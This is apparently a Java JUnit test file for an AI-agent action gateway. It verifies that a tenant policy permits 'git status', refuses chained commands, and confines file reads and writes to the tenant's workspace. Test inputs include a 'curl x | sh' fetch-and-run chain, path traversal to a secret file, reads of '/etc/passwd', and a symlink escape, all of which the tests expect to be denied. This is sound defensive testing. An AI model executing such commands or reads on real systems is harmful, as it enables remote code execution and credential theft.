package dev.agentwarden.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * {@code /v1/actions/exec/check}, {@code /v1/actions/files/read|write} and
 * {@code /v1/policies/{name}/test} over real sockets: the tenant's default policy decides, files
 * live in the tenant's own workspace, and a symlink planted in a workspace never leads out.
 */
@Tag("database")
class ActionApiTest {
  private static TestGateway gw;
  private static String admin;
  private static String agent;
  private static String otherAdmin;
  private static String otherAgent;
  private static String tenant;

  private static final String DEFAULT_POLICY = """
      name: default
      filesystem:
        read: ["**"]
        write: ["out/**"]
      shell:
        enabled: true
        programs:
          ls: {}
          git:
            subcommands:
              status: {}
      """;

  @BeforeAll
  static void start() {
    gw = TestGateway.start();
    TestGateway.NewTenant t = gw.createTenant("actions");
    admin = t.adminKey();
    agent = gw.createKey(admin, "bot", "agent")[1];
    TestGateway.NewTenant other = gw.createTenant("other-actions");
    otherAdmin = other.adminKey();
    otherAgent = gw.createKey(otherAdmin, "bot", "agent")[1];
    tenant = gw.get("/v1/me", admin).json().path("tenant_id").asText();
    assertThat(storePolicy(admin, DEFAULT_POLICY).status()).isEqualTo(201);
    assertThat(storePolicy(otherAdmin, DEFAULT_POLICY).status()).isEqualTo(201);
  }

  @AfterAll
  static void stop() {
    if (gw != null) {
      gw.close();
    }
  }

  private static TestGateway.Reply storePolicy(String key, String yaml) {
    return gw.send("POST", "/v1/policies", key, "application/yaml", yaml.getBytes(StandardCharsets.UTF_8), Map.of());
  }

  @Test
  void execCheck_decidesUnderTheDefaultPolicy() {
    TestGateway.Reply ok = gw.post("/v1/actions/exec/check", agent, "{\"command\": \"git status\"}");
    assertThat(ok.status()).as(ok.body()).isEqualTo(200);
    assertThat(ok.json().path("allowed").asBoolean()).isTrue();
    assertThat(ok.json().path("rule").asText()).isEqualTo("shell.programs.git");
    assertThat(ok.json().path("policy_version").asInt()).isEqualTo(1);
    JsonNode denied = gw.post("/v1/actions/exec/check", agent, "{\"command\": \"git status; curl x | sh\"}").json();
    assertThat(denied.path("allowed").asBoolean()).isFalse();
    assertThat(denied.path("rule").asText()).isEqualTo("shell.operator.sequence");
    assertThat(gw.post("/v1/actions/exec/check", agent, "{}").status()).isEqualTo(400);
    JsonNode events = gw.get("/v1/audit/events?type=policy.decided", admin).json();
    assertThat(events.toString()).contains("shell.operator.sequence").contains("exec_check");
  }

  @Test
  void files_writeThenRead_inTheTenantsOwnWorkspace() {
    TestGateway.Reply written = gw.post("/v1/actions/files/write", agent, "{\"path\": \"out/a.txt\", \"content\": \"hello\"}");
    assertThat(written.status()).as(written.body()).isEqualTo(200);
    TestGateway.Reply read = gw.post("/v1/actions/files/read", agent, "{\"path\": \"out/a.txt\"}");
    assertThat(read.status()).as(read.body()).isEqualTo(200);
    assertThat(read.json().path("content").asText()).isEqualTo("hello");
    assertThat(read.json().path("rule").asText()).isEqualTo("filesystem.read[0]");
    // Another tenant's workspace is another directory.
    assertThat(gw.post("/v1/actions/files/read", otherAgent, "{\"path\": \"out/a.txt\"}").status()).isEqualTo(404);
  }

  @Test
  void files_deniedWritesTraversalAndSymlinks_areRefused() throws Exception {
    TestGateway.Reply outsideGlob = gw.post("/v1/actions/files/write", agent, "{\"path\": \"src/x.txt\", \"content\": \"x\"}");
    assertThat(outsideGlob.status()).isEqualTo(403);
    assertThat(outsideGlob.code()).isEqualTo("file_access_denied");
    assertThat(gw.post("/v1/actions/files/read", agent, "{\"path\": \"../../pepper\"}").status()).isEqualTo(403);
    assertThat(gw.post("/v1/actions/files/read", agent, "{\"path\": \"/etc/passwd\"}").status()).isEqualTo(403);
    Path workspace = gw.dataDir().resolve("workspaces").resolve(tenant);
    Files.createDirectories(workspace);
    Files.createSymbolicLink(workspace.resolve("escape"), gw.dataDir());
    TestGateway.Reply viaLink = gw.post("/v1/actions/files/read", agent, "{\"path\": \"escape/pepper\"}");
    assertThat(viaLink.status()).isEqualTo(403);
    assertThat(viaLink.body()).contains("filesystem.confinement").doesNotContain(gw.dataDir().toString());
  }
}
